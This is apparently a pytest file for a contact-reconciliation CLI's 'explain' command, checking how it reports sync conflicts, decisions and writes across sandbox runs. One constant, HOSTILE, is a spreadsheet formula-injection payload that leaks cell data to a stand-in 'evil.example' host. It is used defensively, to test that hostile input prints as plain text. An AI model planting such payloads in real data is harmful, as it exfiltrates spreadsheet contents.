"""`recon explain EMAIL|CONTACT_ID` (contact_recon/store/history.py, contact_recon/cli/explain.py) on a person with a
conflict and a decision, against both sandboxes: the story names both sides' values at each snapshot, the
conflict, the decision, the op that carried it out and its outcome, with run ids, times and the policy version."""

from __future__ import annotations

import csv
import json
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from typer.testing import CliRunner

from contact_recon.cli.main import app
from tests.support.servers import Sandboxes
from tests.support.worlds import World, awkward_fixture, loose_policy, planning_world, run_cli

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"[bold]Click[/bold]")'


@pytest.fixture
def world(sandboxes: Sandboxes, tmp_path: Path) -> Iterator[World]:
    yield from planning_world(sandboxes, tmp_path, *awkward_fixture())


def _decide(conflicts: Path, out: Path, key: str, field: str, value: str) -> Path:
    with conflicts.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    columns = list(dict.fromkeys([*rows[0], "decision", "value"]))
    with out.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, columns)
        writer.writeheader()
        for row in rows:
            chosen = (row["key"], row["field"]) == (key, field)
            writer.writerow({**row, "decision": "value" if chosen else "", "value": value if chosen else ""})
    return out


def test_explain_tells_a_persons_conflict_decision_and_write_across_runs(
        world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for name, value in {**world.env(), "COLUMNS": "200"}.items():
        monkeypatch.setenv(name, value)
    world.policy = loose_policy(tmp_path)  # the fixture's blanked companies would trip the field-update guard
    first = world.reconcile()
    assert first.status == "completed", first.error
    key = sorted(world.edited["renamed"])[0]
    contact = next(c for c in next(iter(world.fixture["ghl"]["locations"].values()))["contacts"] if c["id"] == key)
    email = contact["email"]
    assert first.plan is not None
    path = _decide(first.plan.conflicts_path, tmp_path / "decided.csv", key, "first_name", "Zoë")
    imported = CliRunner().invoke(app, ["conflicts", "import", str(path)])
    assert imported.exit_code == 0, imported.output
    second = world.reconcile()
    assert second.status == "completed", second.error

    told = CliRunner().invoke(app, ["explain", f"  {email.upper()} ", "--json"])
    assert told.exit_code == 0, told.output
    story = json.loads(told.stdout)
    assert story["contact_ids"] == [key] and story["emails"] == [email.lower()]
    runs = story["runs"]
    ended = [r["finished_at"] for r in runs]
    assert ended == sorted(ended)  # in the order things happened
    assert [r["kind"] for r in runs] == ["snapshot", "reconcile", "snapshot", "reconcile"]
    snapshots = [r for r in runs if r["kind"] == "snapshot"]
    assert len(snapshots) == 2
    first_snap = snapshots[0]
    assert first_snap["ghl"][0]["first_name"] == contact["firstName"]
    assert first_snap["tinyemail"][0]["first_name"] == "Renamed"
    # the second snapshot still reads the two names; the second reconcile writes the decision
    assert snapshots[1]["tinyemail"][0]["first_name"] == "Renamed"
    reconciles = [r for r in runs if r["kind"] == "reconcile"]
    assert [r["run_id"] for r in reconciles] == [first.run_id, second.run_id]
    assert all(r["policy_version"] for r in reconciles)
    conflict = [c for c in reconciles[0]["conflicts"] if c["field"] == "first_name"]
    assert conflict and conflict[0]["tinyemail"] == "Renamed" and conflict[0]["ghl"] == contact["firstName"]
    written = {(o["target"], o["field"], o["new"], o["reason"], o["status"]) for o in reconciles[1]["ops"]}
    assert {("ghl", "first_name", "Zoë", "decided_value", "done"),
            ("tinyemail", "first_name", "Zoë", "decided_value", "done")} <= written
    assert [(d["field"], d["choice"], d["value"], d["used_by_run"]) for d in story["decisions"]] == [
        ("first_name", "value", "Zoë", second.run_id)]
    assert story["base"] and story["base"][0]["first_name"] == "Zoë"
    assert [(link["contact_id"], link["email"]) for link in story["id_map"]] == [(key, email.lower())]

    # the text form, by contact id, as a person reads it
    text = CliRunner().invoke(app, ["explain", key])
    assert text.exit_code == 0, text.output
    out = text.output
    assert f"reconcile run {second.run_id}: completed" in out and "policy " in out
    assert "conflict first_name: base" in out and "'Renamed'" in out
    assert "→ ghl update first_name" in out and "'Zoë' (decided_value) done" in out
    assert "decision first_name: value 'Zoë' (used by run" in out
    assert f"https://app.gohighlevel.com/v2/location/{world.location}/contacts/detail/{key}" in out


def test_explain_prints_hostile_values_as_text_and_names_an_unknown_person(
        world: World, tmp_path: Path) -> None:
    # a hostile first name from a web form reaches the story as text, not as rich markup
    contact = next(iter(world.fixture["ghl"]["locations"].values()))["contacts"][0]
    token = world.fixture["ghl"]["tokens"][0]["token"]
    answer = httpx.put(f"{world.ghl.base_url}/contacts/{contact['id']}", json={"firstName": HOSTILE},
                       headers={"Authorization": f"Bearer {token}", "Version": "2021-07-28"})
    assert answer.status_code == 200, answer.text
    assert world.plan().status in ("planned", "held")
    world.store.close()  # the real command opens the store itself
    shown = run_cli("explain", contact["id"], env=world.env(), cwd=tmp_path)
    assert shown.returncode == 0, shown.stderr
    assert HOSTILE in shown.stdout.replace("\n", "")
    missing = run_cli("explain", "nobody@nowhere.example", env=world.env(), cwd=tmp_path)
    assert missing.returncode == 1 and "no snapshot, base row or id_map link names 'nobody@nowhere.example'" in \
        missing.stderr.replace("\n", " ")
